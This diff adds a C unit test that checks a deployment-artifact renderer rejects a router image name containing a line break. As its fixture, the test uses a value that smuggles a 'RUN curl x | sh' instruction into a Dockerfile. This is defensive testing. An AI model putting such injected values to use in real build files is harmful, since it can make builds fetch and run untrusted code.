@@ -261,6 +261,36 @@ static void test_ecs__unsafe_fluent_bit_value_is_an_error_at_its_span(void **sta
 	done(&r);
 }
 
+/*
+ * The schema already refuses such an image; the Dockerfile escaper is the
+ * second line, so the model is changed after loading to reach it.
+ */
+static void test_ecs__dockerfile_refuses_a_line_break_in_the_router_image(void **state)
+{
+	lp_artifact_set set = LP_ARTIFACT_SET_INIT;
+	run r = load(one_app);
+	const lp_diag_entry *e;
+	size_t i, seen = 0;
+	(void)state;
+	assert_non_null(r.m);
+	r.m->services[0].router.image = "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1\nRUN curl x | sh";
+	render(&set, &r);
+	e = find(&r, "LP-FB-VALUE");
+	assert_non_null(e);
+	assert_int_equal(e->span.line, 14);
+	assert_non_null(strstr(e->message, "router image"));
+	assert_non_null(strstr(e->message, "line break"));
+	/* Nothing is rendered rather than a Dockerfile with an instruction of the image's own. */
+	for (i = 0; i < set.n; i++)
+		if (!strcmp(set.v[i].path, "ecs/shop-api.Dockerfile")) {
+			assert_int_equal(set.v[i].content.size, 0);
+			seen++;
+		}
+	assert_int_equal(seen, 1);
+	lp_artifact_set_release(&set);
+	done(&r);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -277,6 +307,7 @@ int main(void)
 		cmocka_unit_test(test_ecs__renders_every_file_of_a_fargate_service),
 		cmocka_unit_test(test_ecs__container_order_in_the_spec_does_not_matter),
 		cmocka_unit_test(test_ecs__unsafe_fluent_bit_value_is_an_error_at_its_span),
+		cmocka_unit_test(test_ecs__dockerfile_refuses_a_line_break_in_the_router_image),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
